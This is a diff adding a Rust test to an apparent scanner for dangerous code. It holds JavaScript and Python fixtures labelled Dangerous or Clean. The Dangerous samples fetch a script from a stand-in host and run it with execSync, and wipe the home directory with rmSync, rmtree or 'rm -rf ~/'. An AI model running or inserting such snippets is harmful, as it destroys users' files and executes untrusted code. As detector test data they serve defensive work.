@@ -4121,3 +4121,70 @@ fn helper_calls_of_other_programs_each_judged() {
     ];
     check_all(rows);
 }
+
+/// A function passed as a value is called where it is finally called: a JavaScript function
+/// calling its callback parameter calls the callback it was given (written at the call, or a
+/// function of the script named there) with those arguments; a Python executor
+/// (`run_in_executor`, `submit`, `asyncio.to_thread`) calls the function it is given with the
+/// arguments after it.
+#[test]
+fn functions_passed_as_values_are_called() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const cp = require('child_process');\nconst https = require('https');\n\
+             function grab(url, then) {\n  https.get(url, (res) => {\n    let out = '';\n\
+             \x20   res.on('data', (c) => { out += c; });\n    res.on('end', () => then(out));\n  });\n}\n\
+             grab('https://tools.example.net/setup.sh', (code) => cp.execSync(code));\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Js,
+            "const https = require('https');\n\
+             function grab(url, then) {\n  https.get(url, (res) => {\n    let out = '';\n\
+             \x20   res.on('data', (c) => { out += c; });\n    res.on('end', () => then(out));\n  });\n}\n\
+             grab('https://api.github.com/repos/rust-lang/rust', (text) => console.log(text.length));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\n\
+             function drop(p) { fs.rmSync(p, { recursive: true, force: true }); }\n\
+             function withHome(fn) { fn(os.homedir()); }\nwithHome(drop);\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import asyncio\nimport shutil\nfrom pathlib import Path\n\n\
+             class Sweeper:\n    def sweep(self, where):\n        shutil.rmtree(where)\n\n\
+             async def go():\n    loop = asyncio.get_running_loop()\n\
+             \x20   await loop.run_in_executor(None, Sweeper().sweep, Path.home())\n\n\
+             asyncio.run(go())\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import asyncio\nimport subprocess\n\n\
+             def sh(cmd):\n    subprocess.run(cmd, shell=True)\n\n\
+             async def go():\n    await asyncio.to_thread(sh, 'rm -rf ~/')\n\n\
+             asyncio.run(go())\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import asyncio\n\n\
+             def say(msg):\n    print('>>', msg)\n\n\
+             async def go():\n    loop = asyncio.get_running_loop()\n\
+             \x20   await loop.run_in_executor(None, say, 'ready')\n\n\
+             asyncio.run(go())\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
